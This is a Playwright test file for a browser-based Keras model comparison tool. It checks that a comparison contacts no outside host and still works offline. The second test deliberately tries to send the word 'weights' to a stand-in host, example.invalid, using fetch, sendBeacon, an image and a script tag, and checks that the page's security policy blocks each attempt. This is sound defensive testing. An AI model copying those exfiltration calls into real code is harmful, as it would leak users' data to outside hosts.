import { join } from 'node:path';
import { expectVerdict } from './support/openPair.ts';
import { expect, test } from './support/page.ts';
import { SAMPLES } from './support/paths.ts';

const noisy = { annotation: { type: 'noisy', description: 'the browser logs what it blocks' } };

test(
  'A whole comparison asks nothing of any other machine, nor of the server once loaded',
  noisy,
  async ({ page, context, site }) => {
    const asked: { readonly url: string; readonly method: string }[] = [];
    // The context also hears what the worker asks for.
    context.on('request', (request) => asked.push({ url: request.url(), method: request.method() }));
    await page.goto('/?backend=wasm');
    for (const [label, name] of [
      ['Inputs', 'pump_health_inputs.npz'],
      ['Model A', 'pump_health.keras'],
      ['Model B', 'pump_health_restored.keras'],
    ] as const) {
      await page.getByLabel(label, { exact: true }).setInputFiles(join(SAMPLES, name));
    }
    await expectVerdict(page, 'different');
    for (const name of [/Weights/, /Predictions/, /Graph/, /Settings/, /Versions/]) {
      await page.getByRole('tab', { name }).click();
      await expect(page.getByRole('tab', { name })).toHaveAttribute('aria-selected', 'true');
      // Until the code of the tab is there, the one before it stays.
      await expect(page.getByRole('tabpanel')).toHaveAttribute('aria-busy', 'false');
    }
    const away = asked.filter(({ url }) => !url.startsWith(`${site.url}/`) && !/^(data|blob):/.test(url));
    expect(away, 'requests to other machines').toEqual([]);
    expect(
      asked.filter(({ method }) => method !== 'GET'),
      'requests that could carry something',
    ).toEqual([]);

    // Everything is here by now: with the network gone the page still compares.
    await context.setOffline(true);
    const before = asked.length;
    await page.getByRole('button', { name: 'Swap A and B' }).click();
    await expectVerdict(page, 'different');
    await expect(page.getByRole('banner')).toContainText(/pump_health_restored\.keras.*pump_health\.keras/);
    // The browser itself asks for the icon whenever it likes.
    expect(asked.slice(before).filter(({ url }) => !url.endsWith('/icon.svg'))).toEqual([]);
  },
);

test('What would leave is stopped by the policy of the page', noisy, async ({ page }) => {
  await page.goto('/');
  const stopped = await page.evaluate(async () => {
    const directives = new Set<string>();
    addEventListener('securitypolicyviolation', (event) => directives.add(event.effectiveDirective));
    const to = 'https://example.invalid/';
    const fetched = await fetch(to, { method: 'POST', body: 'weights' }).then(
      () => 'sent',
      () => 'refused',
    );
    const beacon = navigator.sendBeacon(to, 'weights');
    await new Promise<void>((resolve) => {
      const image = new Image();
      image.onerror = () => resolve();
      image.src = `${to}pixel.png`;
    });
    const script = document.createElement('script');
    await new Promise<void>((resolve) => {
      script.onerror = () => resolve();
      script.src = `${to}script.js`;
      document.head.append(script);
    });
    return { fetched, beacon, directives: [...directives].sort() };
  });
  expect(stopped.fetched).toBe('refused');
  expect(stopped.directives).toEqual(expect.arrayContaining(['connect-src', 'img-src', 'script-src-elem']));
});
